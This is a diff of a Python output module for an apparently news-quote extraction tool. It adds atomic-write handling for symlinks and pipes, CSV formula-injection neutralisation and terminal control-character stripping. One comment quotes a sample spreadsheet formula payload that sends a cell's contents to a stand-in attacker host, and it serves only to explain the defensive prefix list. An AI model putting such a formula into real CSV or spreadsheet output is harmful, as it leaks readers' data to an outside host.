@@ -2,15 +2,20 @@
 
 Files are written atomically: into a temporary file beside the target, renamed
 over it only when everything was written. An interrupted run leaves the old
-file (or none), never half of a new one.
+file (or none), never half of a new one. Only a regular file (or a missing path)
+is renamed over: a symlink is followed and its target replaced, a device or a
+named pipe is written as a stream, and a folder is refused.
 """
 
 from __future__ import annotations
 
 import contextlib
 import csv
+import errno
 import json
 import os
+import re
+import stat
 import sys
 import tempfile
 from collections.abc import Iterable, Iterator
@@ -45,11 +50,14 @@ ROW_FIELDS = (
 )
 
 
+#: The format each output file extension stands for.
+EXTENSIONS: dict[str, Format] = {"jsonl": "jsonl", "ndjson": "jsonl", "json": "json", "csv": "csv", "parquet": "parquet", "txt": "table"}
+
+
 def format_for_path(path: str | None) -> Format | None:
     if path is None:
         return None
-    suffix = Path(path).suffix.lower().lstrip(".")
-    return {"jsonl": "jsonl", "ndjson": "jsonl", "json": "json", "csv": "csv", "parquet": "parquet", "txt": "table"}.get(suffix)  # type: ignore[return-value]
+    return EXTENSIONS.get(Path(path).suffix.lower().lstrip("."))
 
 
 def attribution_rows(article: Article) -> Iterator[dict[str, Any]]:
@@ -77,13 +85,26 @@ def attribution_rows(article: Article) -> Iterator[dict[str, Any]]:
 
 
 @contextlib.contextmanager
-def atomic_file(path: str, mode: str = "w") -> Iterator[IO[Any]]:
-    """A file object whose content replaces ``path`` only if the block completes."""
-    target = Path(path)
-    target.parent.mkdir(parents=True, exist_ok=True)
+def atomic_file(path: str, mode: str = "w", *, parents: bool = False) -> Iterator[IO[Any]]:
+    """A file object whose content replaces ``path`` only if the block completes.
+
+    A missing parent folder is an error naming it (``parents=True`` creates it);
+    devices and named pipes (``/dev/stdout``, a FIFO) are written in place, since
+    renaming over them would replace the node; a symlink's target is replaced and
+    the link kept. Errors are ``OSError`` with a message meant for the user.
+    """
+    target, is_stream = output_target(path, parents=parents)
+    text = "b" not in mode
+    if is_stream:
+        # Appending: a pipe or device ignores it, and /dev/stdout redirected to a file (even
+        # with >>) must not be truncated by opening it again.
+        stream_mode = mode.replace("w", "a")
+        with open(target, stream_mode, encoding="utf-8" if text else None, newline="" if text else None) as stream:
+            yield stream
+        return
     fd, temp = tempfile.mkstemp(prefix=f".{target.name}.", suffix=".part", dir=target.parent)
     try:
-        with os.fdopen(fd, mode, encoding=None if "b" in mode else "utf-8", newline=None if "b" in mode else "") as handle:
+        with os.fdopen(fd, mode, encoding="utf-8" if text else None, newline="" if text else None) as handle:
             yield handle
             handle.flush()
             os.fsync(handle.fileno())
@@ -95,23 +116,111 @@ def atomic_file(path: str, mode: str = "w") -> Iterator[IO[Any]]:
         raise
 
 
+def output_target(path: str, *, parents: bool = False) -> tuple[Path, bool]:
+    """Where writing ``path`` really goes, and whether it is a stream (device, pipe, socket,
+    one of this process's open files such as ``/dev/stdout``) rather than a file to replace.
+    Raises ``OSError`` naming the problem: a folder, or a parent folder that is missing or is
+    a file."""
+    try:
+        mode = os.stat(path).st_mode  # follows links, /proc's magic ones too
+    except FileNotFoundError:
+        # Missing, or a dangling link: create the file the link points to (the link stays).
+        target = Path(os.path.realpath(path))
+        _check_parent(target.parent, parents)
+        return target, False
+    except NotADirectoryError:
+        _check_parent(Path(os.path.realpath(path)).parent, parents)  # names the file that stands where a folder should
+        raise
+    if stat.S_ISDIR(mode):
+        raise IsADirectoryError(errno.EISDIR, f"{path} is a folder; give a file name", path)
+    if not stat.S_ISREG(mode) or _open_file_of_this_process(path):
+        return Path(path), True
+    return Path(os.path.realpath(path)), False  # a symlink's target is replaced, the link kept
+
+
+def _open_file_of_this_process(path: str) -> bool:
+    """``/dev/stdout``, ``/dev/fd/1``, ``/proc/self/fd/1``: a file this process already has
+    open (a shell redirect, maybe ``>>``), written where it stands, never replaced."""
+    current = os.path.abspath(path)
+    for _ in range(40):  # the kernel's own limit on links followed
+        current = os.path.join(os.path.realpath(os.path.dirname(current)), os.path.basename(current))
+        if current.startswith("/proc/"):
+            return True
+        if not os.path.islink(current):
+            return False
+        current = os.path.normpath(os.path.join(os.path.dirname(current), os.readlink(current)))
+    return False
+
+
+def _check_parent(folder: Path, create: bool) -> None:
+    if folder.is_dir():
+        return
+    blocker = next((p for p in (folder, *folder.parents) if p.exists()), None)
+    if blocker is not None and not blocker.is_dir():
+        raise NotADirectoryError(errno.ENOTDIR, f"{blocker} is a file, not a folder", str(folder))
+    if not create:
+        raise FileNotFoundError(errno.ENOENT, f"folder {folder} does not exist (create it, or pass --parents)", str(folder))
+    folder.mkdir(parents=True, exist_ok=True)
+
+
 def _umask() -> int:
     mask = os.umask(0)
     os.umask(mask)
     return mask
 
 
-class Writer:
-    """Streams articles to one destination in one format."""
+#: First characters that make a spreadsheet cell a formula (OWASP's list): a cell like
+#: ``=HYPERLINK("http://evil.example/?"&A1)`` in an article would run when the CSV is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
 
-    def __init__(self, handle: IO[str] | None, fmt: Format, path: str | None = None, console_width: int | None = None):
+
+def spreadsheet_safe(value: Any) -> Any:
+    """A CSV cell that a spreadsheet shows as text: a string starting like a formula gets
+    a leading single quote, as OWASP recommends. Numbers and other cells are unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+#: C0 and C1 control characters except tab and newline: an escape sequence in an article's
+#: title could retitle, recolour or reprogram the terminal of whoever reads the output.
+_CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+
+
+def printable(text: str) -> str:
+    """``text`` without the control characters a terminal would act on (tab and newline stay)."""
+    return _CONTROL_CHARACTERS.sub("", text)
+
+
+def for_rich(text: Any) -> str:
+    """Untrusted text to put inside a rich markup string: brackets like ``[/r/politics]``
+    or ``[link=...]`` escaped so they are never tags, control characters removed. (rich's
+    escape shows a backslash before a lone ``[`` as ``[``; where exact text matters, hand
+    rich a ``Text`` instead, as the tables do.)"""
+    from rich.markup import escape
+
+    return escape(printable(str(text)))
+
+
+class Writer:
+    """Streams articles to one destination in one format.
+
+    CSV cells that a spreadsheet would run as formulas are neutralised (see
+    ``spreadsheet_safe``) unless ``raw_csv`` is set, for programs that read the CSV.
+    """
+
+    def __init__(self, handle: IO[str] | None, fmt: Format, path: str | None = None, console_width: int | None = None,
+                 *, raw_csv: bool = False, parents: bool = False):
         self.handle = handle
         self.format = fmt
         self.path = path
         self.count = 0
+        self.attributions = 0
         self._csv: csv.DictWriter | None = None
         self._rows: list[dict[str, Any]] = []
         self._width = console_width
+        self._raw_csv = raw_csv
+        self._parents = parents
 
     def write(self, article: Article) -> None:
         if self.format == "jsonl":
@@ -123,16 +232,19 @@ class Writer:
         elif self.format == "csv":
             assert self.handle is not None
             if self._csv is None:
-                self._csv = csv.DictWriter(self.handle, fieldnames=ROW_FIELDS, lineterminator="\n")
+                # csv's default CRLF (RFC 4180, as search and the API write): with "\n" as the line end,
+                # csv leaves a cell holding a lone "\r" unquoted, and readers split the row there.
+                self._csv = csv.DictWriter(self.handle, fieldnames=ROW_FIELDS)
                 self._csv.writeheader()
             for row in attribution_rows(article):
-                self._csv.writerow(row)
+                self._csv.writerow(row if self._raw_csv else {k: spreadsheet_safe(v) for k, v in row.items()})
         elif self.format == "parquet":
             self._rows.extend(attribution_rows(article))
         elif self.format == "table":
             assert self.handle is not None
             render_table(article, self.handle, width=self._width)
         self.count += 1
+        self.attributions += len(article.attributions)
         if self.handle is not None and self.format in ("jsonl", "csv"):
             self.handle.flush()
 
@@ -145,7 +257,7 @@ class Writer:
 
             assert self.path is not None, "parquet needs -o FILE"
             table = pa.Table.from_pylist(self._rows, schema=_parquet_schema()) if self._rows else _parquet_schema().empty_table()
-            with atomic_file(self.path, "wb") as handle:
+            with atomic_file(self.path, "wb", parents=self._parents) as handle:
                 pq.write_table(table, handle)
 
 
@@ -157,55 +269,60 @@ def _parquet_schema():
 
 
 def render_table(article: Article, handle: IO[str], width: int | None = None) -> None:
-    """The readable view: one row per attribution (speaker, type, cue, content)."""
+    """The readable view: one row per attribution (speaker, type, cue, content).
+
+    Article text is handed to rich as ``Text``, never as markup, so a title like
+    ``[/r/politics]`` or ``[link=…]`` prints as written; control characters are removed.
+    """
     from rich.console import Console
     from rich.table import Table
+    from rich.text import Text
 
-    console = Console(file=handle, width=width or 120, force_terminal=handle in (sys.stdout, sys.stderr) and handle.isatty())
-    heading = article.title or article.input
-    table = Table(title=f"{heading}  [dim]({article.input})[/dim]", title_justify="left", show_lines=False, expand=True)
+    console = Console(file=handle, width=width or 120, emoji=False, highlight=False,
+                      force_terminal=handle in (sys.stdout, sys.stderr) and handle.isatty())
+    title = Text.assemble(printable(article.title or article.input), "  ", (f"({printable(article.input)})", "dim"))
+    table = Table(title=title, title_justify="left", show_lines=False, expand=True)
     table.add_column("speaker", ratio=2, overflow="fold")
     table.add_column("type", ratio=1)
     table.add_column("cue", ratio=1, overflow="fold")
     table.add_column("content", ratio=6, overflow="fold")
     for a in article.attributions:
-        speaker = a.speaker.name if a.speaker else "[dim]-[/dim]"
+        speaker = Text(printable(a.speaker.name)) if a.speaker else Text("-", "dim")
         if a.speaker and a.speaker.kind not in ("person",):
-            speaker += f" [dim]({a.speaker.kind})[/dim]"
-        kind = a.type + (" [dim](belief)[/dim]" if a.act == "belief" else "")
-        cue = a.cue.text if a.cue else "[dim]headline[/dim]" if a.headline else "[dim]continued[/dim]"
-        table.add_row(_escape(speaker, markup=True), kind, _escape(cue, markup=not a.cue), _escape(a.content.text))
+            speaker.append(f" ({printable(a.speaker.kind)})", "dim")
+        kind = Text(printable(a.type))
+        if a.act == "belief":
+            kind.append(" (belief)", "dim")
+        # No cue: a headline quote, or a statement that continues the one before it.
+        cue = Text(printable(a.cue.text)) if a.cue else Text("headline" if a.headline else "continued", "dim")
+        table.add_row(speaker, kind, cue, Text(printable(a.content.text)))
     console.print(table)
     if not article.attributions:
         console.print("[dim]no attributions found[/dim]")
 
 
-def _escape(text: str, markup: bool = False) -> str:
-    from rich.markup import escape
-
-    return text if markup else escape(text)
-
-
-def write_all(articles: Iterable[Article], fmt: Format, path: str | None = None) -> int:
+def write_all(articles: Iterable[Article], fmt: Format, path: str | None = None, *, parents: bool = False,
+              raw_csv: bool = False) -> int:
     """Write every article to ``path`` (atomically) or stdout; return how many."""
-    if path is None:
-        writer = Writer(sys.stdout, fmt)
-        for article in articles:
-            writer.write(article)
-        writer.close()
-        return writer.count
-    if fmt == "parquet":
-        writer = Writer(None, fmt, path)
-        for article in articles:
-            writer.write(article)
-        writer.close()
-        return writer.count
-    with atomic_file(path) as handle:
-        writer = Writer(handle, fmt, path)
-        for article in articles:
-            writer.write(article)
-        writer.close()
-    return writer.count
+    return write_articles(articles, fmt, path, parents=parents, raw_csv=raw_csv).count
 
 
-__all__ = ["FORMATS", "Writer", "atomic_file", "attribution_rows", "format_for_path", "render_table", "write_all"]
+def write_articles(articles: Iterable[Article], fmt: Format, path: str | None = None, *, parents: bool = False,
+                   raw_csv: bool = False) -> Writer:
+    """As ``write_all``, returning the finished writer (its article and attribution counts)."""
+    if path is None or fmt == "parquet":
+        writer = Writer(sys.stdout if path is None else None, fmt, path, raw_csv=raw_csv, parents=parents)
+        for article in articles:
+            writer.write(article)
+        writer.close()
+        return writer
+    with atomic_file(path, parents=parents) as handle:
+        writer = Writer(handle, fmt, path, raw_csv=raw_csv, parents=parents)
+        for article in articles:
+            writer.write(article)
+        writer.close()
+    return writer
+
+
+__all__ = ["EXTENSIONS", "FORMATS", "Writer", "atomic_file", "attribution_rows", "for_rich", "format_for_path", "output_target",
+           "printable", "render_table", "spreadsheet_safe", "write_all", "write_articles"]
